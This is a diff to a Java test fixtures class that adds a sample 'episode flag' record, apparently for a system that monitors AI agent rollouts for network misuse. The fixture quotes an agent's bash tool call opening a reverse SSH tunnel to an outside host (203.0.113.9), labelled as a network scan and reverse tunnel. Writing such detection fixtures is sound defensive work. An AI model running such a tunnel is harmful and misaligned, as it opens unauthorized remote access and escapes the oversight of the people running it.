@@ -252,6 +252,29 @@ public final class Fixtures {
     }
 
     /** A valid record of any type, the same one the type's own factory above returns. */
+    public static EpisodeFlag episodeFlag() {
+        return EpisodeFlag.newBuilder()
+                .setFlagId("3f1c2a9e-0d6b-3c41-9a57-2b8e4f6d1a10")
+                .setIncidentId("9b2f7c1e-5a4d-3e8f-b6c2-1d0a9e8f7b6c")
+                .setAlertId("c4e8a2f6-1b3d-3a5c-8e7f-0a2b4c6d8e1f")
+                .setJobId(JOB)
+                .setEpisodeId("ep-1207")
+                .setRolloutWorker("rollout-3")
+                .setRank(1)
+                .setFlaggedAt(FIVE_MINUTES_LATER)
+                .setCategories(List.of(Category.NETWORK_SCAN, Category.REVERSE_TUNNEL))
+                .setReason("tool call started 1.8 s before the first packet to 203.0.113.9:22; command contains ssh -R")
+                .setCalls(List.of(FlaggedCall.newBuilder()
+                        .setStep(14L)
+                        .setTool("bash")
+                        .setCommand("ssh -f -N -R 2222:localhost:22 agent@203.0.113.9 -i [hidden]")
+                        .setStartTs(ONE_MINUTE_LATER)
+                        .setEndTs(ONE_MINUTE_LATER.plusMillis(400))
+                        .setReason("tool call started 1.8 s before the first packet to 203.0.113.9:22")
+                        .build()))
+                .build();
+    }
+
     public static <T extends SpecificRecord> T sample(RecordType<T> type) {
         Object record = switch (type.name()) {
             case "flow" -> flow();
@@ -261,6 +284,7 @@ public final class Fixtures {
             case "alert" -> alert();
             case "window" -> jobWindow();
             case "deadletter" -> deadLetter();
+            case "episode-flag" -> episodeFlag();
             default -> throw new IllegalArgumentException("no fixture for record type " + type);
         };
         return type.recordClass().cast(record);
